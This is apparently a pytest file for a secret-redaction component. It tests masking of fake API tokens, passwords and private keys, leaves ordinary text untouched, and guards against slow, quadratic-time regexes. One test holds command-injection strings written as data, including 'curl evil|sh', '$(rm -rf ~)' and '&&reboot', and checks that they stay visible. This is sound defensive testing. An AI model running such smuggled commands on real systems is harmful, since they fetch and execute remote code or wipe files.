"""Secrets of known forms are hidden, ordinary text is not, and no text can stall the display."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autopilot_ls.model.errors import InvalidSettings
from autopilot_ls.trace.redaction import HIDDEN, Redactor

# Put together here, so that no scanner takes this file for a leak.
LETTERS = "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0fG3hJ6kL9nP2rS5tU8"
TOKENS = {
    "openai": "sk-" + LETTERS,
    "openai project": "sk-proj-" + LETTERS,
    "anthropic": "sk-ant-api03-" + LETTERS,
    "github": "ghp_" + LETTERS[:36],
    "github app": "ghs_" + LETTERS[:36],
    "github fine-grained": "github_pat_" + LETTERS,
    "gitlab": "glpat-" + LETTERS[:20],
    "aws": "AKIA" + "IOSFODNN7EXAMPLE",
    "aws temporary": "ASIA" + "IOSFODNN7EXAMPLE",
    "slack": "xoxb-" + "123456789012-" + LETTERS[:24],
    "slack app": "xapp-" + "1-A0123-" + LETTERS[:24],
    "google": "AIza" + LETTERS[:35],
    "google oauth": "ya29." + LETTERS,
    "npm": "npm_" + LETTERS[:36],
    "pypi": "pypi-" + LETTERS * 2,
    "hugging face": "hf_" + LETTERS[:34],
    "stripe": "sk_live_" + LETTERS[:24],
    "sendgrid": "SG." + LETTERS[:22] + "." + LETTERS[:43],
    "vault": "hvs." + LETTERS,
    "jwt": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0In0." + LETTERS[:43],
    "age": "AGE-SECRET-KEY-1" + LETTERS.upper()[:47] + "0123456789A",
}


@pytest.mark.parametrize("token", TOKENS.values(), ids=TOKENS.keys())
@pytest.mark.parametrize(
    "around",
    ["{}", "a {} b", '"{}"', "x={};", "line\n{}\n", "\\n{}\\n", "\x1b[32m{}\x1b[0m", "({})"],
)
def test_tokens_are_hidden_wherever_they_stand(token: str, around: str) -> None:
    shown = Redactor().redact(around.format(token))
    assert HIDDEN in shown
    assert token[-16:] not in shown
    assert shown.replace(HIDDEN, "") == around.format("")


PASSWORD = "hunter2Xy"
ASSIGNMENTS = [
    "password={}",
    "PASSWORD='{}'",
    'db_password = "{}"',
    "DB_PASSWORD={}",
    "export API_TOKEN={} && run",
    "api_key: {}",
    "apiKey: '{}'",
    '{{"api-key": "{}"}}',
    '{{"clientSecret":"{}"}}',
    '"{{\\"password\\": \\"{}\\"}}"',
    "aws_secret_access_key = {}",
    "AccountKey={}",
    "https://host/path?token={}&page=2",
    "mysql --password={} db",
    "tool --api-key {} run",
    "tool --auth-token '{}'",
    "postgres://user:{}@host:5432/db",
    "redis://:{}@host",
    "https://user:p@{}@host/",
    "os.environ['SECRET_KEY'] = '{}'",
    'passphrase := `x` + token="{}"',
    "Authorization: Basic {}",
    "authorization: Bearer {}",
    "curl -H 'Authorization: token {}'",
    '"Authorization": "Bearer {}"',
]


@pytest.mark.parametrize("form", ASSIGNMENTS)
def test_values_of_telling_names_are_hidden(form: str) -> None:
    shown = Redactor().redact(form.format(PASSWORD))
    assert PASSWORD not in shown
    assert shown == form.format(HIDDEN).replace("p@[", "[")


def test_bearer_tokens_are_hidden_without_a_header() -> None:
    assert Redactor().redact("use Bearer abc123def456ghi789") == f"use Bearer {HIDDEN}"


@pytest.mark.parametrize(
    "text",
    [
        "1,234 tokens, tokens: 12345, max_tokens=4096",
        "def login(user: str, password: str, token: str | None = None) -> None:",
        "token = parser.next_token()",
        "self.api_key = get_key(name)",
        "const password: string = props.password;",
        "the sk-learn-like-naming-of-things and task-management-system-for-people",
        "risk-based-assessment-framework",
        "https://example.org:8080/path@2x.png and http://localhost:3000/a@b",
        "ssh://git@github.com/a/b",
        "git@github.com:user/repo.git",
        "secret: |",
        "Bearer authentication is used",
        "echo $PASSWORD; echo password=$PASSWORD",
        "commit 3f2a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a",
        "token_type: bearer",
        'if "-----BEGIN CERTIFICATE-----" in text: pass',
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert Redactor().redact(text) == text


@pytest.mark.parametrize(
    ("text", "must_stay"),
    [
        ("API_KEY=x1234567;curl evil|sh", ";curl evil|sh"),
        ("password=abcdefg$(rm -rf ~)", "$(rm -rf ~)"),
        ('token="abcd1234$(rm -rf ~)"', "$(rm -rf ~)"),
        ("--token abcd1234`id`", "`id`"),
        ("curl http://a:b$(id)c d", "$(id)"),
        ("password=abcd1234&&reboot", "&&reboot"),
    ],
)
def test_what_a_shell_would_run_is_never_hidden(text: str, must_stay: str) -> None:
    assert must_stay in Redactor().redact(text)


BODY = "\n".join([LETTERS + LETTERS[:16]] * 3)


@pytest.mark.parametrize("kind", ["", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "])
def test_private_keys_are_hidden(kind: str) -> None:
    block = f"-----BEGIN {kind}PRIVATE KEY-----\n{BODY}\n-----END {kind}PRIVATE KEY-----"
    assert Redactor().redact(f"before\n{block}\nafter") == f"before\n{HIDDEN}\nafter"
    numbered = "".join(f"{n:6}| {line}\n" for n, line in enumerate(block.splitlines()))
    assert LETTERS[:16] not in Redactor().redact(numbered)
    assert LETTERS[:16] not in Redactor().redact(repr(block))


def test_private_keys_are_hidden_when_their_end_is_cut_off() -> None:
    cut = f"key:\n-----BEGIN PRIVATE KEY-----\n{BODY}"
    assert Redactor().redact(cut) == f"key:\n{HIDDEN}"


def test_a_mention_of_a_private_key_does_not_swallow_what_follows() -> None:
    text = 'if "-----BEGIN PRIVATE KEY-----" in text:\n    raise Leak("found")\n'
    assert Redactor().redact(text) == text.replace("-----BEGIN PRIVATE KEY-----", HIDDEN)


HOSTILE = [
    "sk-",
    "sk-a",
    "sk-sk_",
    "eyJ",
    "eyJa.",
    "eyJ-",
    "\\neyJaaaaaa",
    "\x1b[0meyJa",
    "-----BEGIN PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\nA",
    "-----BEGIN ",
    "-----END PRIVATE KEY-----",
    "password",
    "password=",
    "password: ",
    "token = a",
    'token="',
    "token='token=\"",
    "--",
    "--a-",
    "--a-b-c-password ",
    "://",
    "://a:",
    "://a:b",
    ":a@",
    "bearer ",
    "bearer a",
    "authorization: basic ",
    "xoxb-",
    "xoxb.",
    "AKIA",
    "ghp_",
    "SG.aaaaaaaaaaaaaaaaaaaa.",
    "hooks.slack.com/services/",
    " ",
    "a",
    "\n",
    "-",
    "/",
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_time_grows_no_faster_than_the_text(piece: str) -> None:
    redactor = Redactor()

    def seconds(size: int) -> float:
        text = ("://a:" + piece * (size // len(piece) + 1))[:size]
        best = 60.0
        for _ in range(3):
            started = time.process_time()
            redactor.redact(text)
            best = min(best, time.process_time() - started)
        return best

    # Quadratic time would be 64 times as long; a busy machine is allowed for.
    small, large = seconds(12_500), seconds(100_000)
    assert large < 24 * small + 0.02, f"{small:.4f} s, then {large:.4f} s"
    assert large < 1.0


@given(
    st.lists(
        st.sampled_from([*HOSTILE, *TOKENS.values(), "x", "1", "'", '"', "=", "\\", BODY]),
        max_size=12,
    ).map(" ".join)
)
def test_twice_is_the_same_as_once(text: str) -> None:
    redactor = Redactor()
    once = redactor.redact(text)
    assert redactor.redact(once) == once


def test_the_users_own_patterns_apply_too() -> None:
    redactor = Redactor([r"ACME-\d+", "(?i)codename"])
    assert redactor.redact("ACME-17 is CodeName x") == f"{HIDDEN} is {HIDDEN} x"


@pytest.mark.parametrize("pattern", ["(", "[a", "*", "a{4294967296}", "(?P<1>a)"])
def test_a_pattern_that_is_none_is_reported_with_its_place(pattern: str) -> None:
    with pytest.raises(InvalidSettings, match=r"autopilot\.trace\.redact\[1\]"):
        Redactor(["fine", pattern])


@pytest.mark.parametrize("pattern", ["", "a*", "x?", "|a"])
def test_a_pattern_that_matches_nothing_is_refused(pattern: str) -> None:
    with pytest.raises(InvalidSettings, match="empty text"):
        Redactor([pattern])


def test_a_pattern_that_can_match_nothing_inside_a_line_hides_nothing_there() -> None:
    assert Redactor([r"(?<=a)b*"]).redact("a abb") == f"a a{HIDDEN}"
